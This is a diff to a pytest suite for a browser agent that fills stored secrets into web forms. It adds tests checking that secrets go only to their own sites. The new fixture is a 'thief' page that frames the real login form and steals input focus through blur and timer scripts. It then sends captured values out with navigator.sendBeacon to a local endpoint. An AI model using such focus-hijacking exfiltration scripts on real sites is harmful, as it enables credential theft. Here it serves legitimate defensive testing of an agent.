@@ -6,7 +6,7 @@ import pytest
 
 from strap_browser.agent.store.report import render
 from strap_browser.worker.secrets import register_secrets
-from tests.site.server import Raw, serve
+from tests.site.server import Raw, Reply, serve
 from tests.support.model_server import act, done
 from tests.support.waiting import eventually
 
@@ -36,7 +36,9 @@ def vault(other):
         )
 
     frame = f"<!doctype html><title>Frame</title><iframe src={other}/ width=600></iframe>"
-    with serve({"/": FORM, "/sent": sent, "/frame": frame}) as running:
+    sandbox = {"Content-Security-Policy": "sandbox allow-scripts allow-forms"}
+    pages = {"/": FORM, "/frame": frame, "/sandbox": Reply(headers=sandbox, body=FORM)}
+    with serve({**pages, "/sent": sent}) as running:
         yield running
 
 
@@ -132,6 +134,43 @@ async def test_a_secret_goes_to_its_sites_only(keeper, vault, other):
     assert TOKEN not in sent
     assert LONG not in sent
     assert [r.path for r in other.requests if r.method == "POST"] == ["/sent"]
+
+
+RACES = {
+    "blur": "addEventListener('blur', () => mine.focus())",
+    "timer": "setInterval(() => mine.focus(), 1)",
+    "later": "addEventListener('blur', () => setTimeout(() => mine.focus(), 2))",
+}
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["other port", "other site"])
+@pytest.mark.parametrize("race", RACES)
+async def test_no_page_around_gets_a_secret_by_the_focus(keeper, vault, race, host):
+    thief = f"""<title>Thief</title><input id=mine><iframe src={vault}/ width=600></iframe><script>
+    addEventListener("input", () => navigator.sendBeacon("/got", mine.value));
+    setInterval(() => mine.value && navigator.sendBeacon("/got", mine.value), 20);
+    {RACES[race]}</script>"""
+    vault.requests.clear()
+    with serve({"/": thief, "/got": ""}) as around:
+        await keeper.run(
+            enter("user", "{{shop}}"),
+            enter("pass", "{{shop}}"),
+            enter("note", "{{shop}}"),
+            click("Send"),
+            done("ok"),
+            task="Log in with {{shop}}",
+            url=f"http://{host}:{around.port}/",
+        )
+        assert not [each for each in around.requests if each.path == "/got"]
+    [form] = [fields(request) for request in vault.requests if request.method == "POST"]
+    assert (form["user"], form["pass"], form["note"]) == (TOKEN, TOKEN, TOKEN)
+
+
+async def test_a_document_without_an_origin_gets_no_secret(keeper, vault):
+    await keeper.run(
+        enter("user", "{{shop}}"), done("ok"), task="Log in with {{shop}}", path="/sandbox"
+    )
+    assert "is not for 'a sandboxed document" in json.dumps(keeper.model.asked[-2:])
 
 
 def test_what_is_left_of_a_secret_where_a_text_is_cut():
